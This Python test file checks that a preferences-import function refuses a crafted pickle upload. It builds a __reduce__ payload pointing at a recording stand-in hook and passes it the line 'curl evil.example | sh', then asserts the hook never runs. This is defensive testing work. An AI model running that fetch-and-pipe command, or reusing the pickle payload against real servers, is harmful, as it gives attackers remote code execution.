import base64
import pickle
import sys
import types


def test_uploaded_file_cannot_run_code(impl) -> None:
    prefs = {"theme": "dark", "language": "fr", "digest_hour": 7}
    assert impl.import_preferences(impl.export_preferences(prefs)) == prefs, "a round trip lost settings"

    calls = []
    probe = types.ModuleType("_prefs_probe")

    def hook(argument):
        calls.append(argument)  # harmless stand-in for os.system
        return {"theme": "dark"}

    hook.__module__, hook.__qualname__ = probe.__name__, "hook"
    probe.hook = hook

    class Upload:
        def __reduce__(self):
            return (hook, ("curl evil.example | sh",))

    sys.modules[probe.__name__] = probe
    try:
        blob = base64.b64encode(pickle.dumps(Upload())).decode("ascii")
        try:
            impl.import_preferences(blob)
        except ValueError:
            pass
    finally:
        del sys.modules[probe.__name__]
    assert not calls, (
        "a crafted preferences file was uploaded, and importing it called a function the file named, "
        f"with the argument {calls[0]!r}: the server runs whatever code an uploader puts in the file"
    )
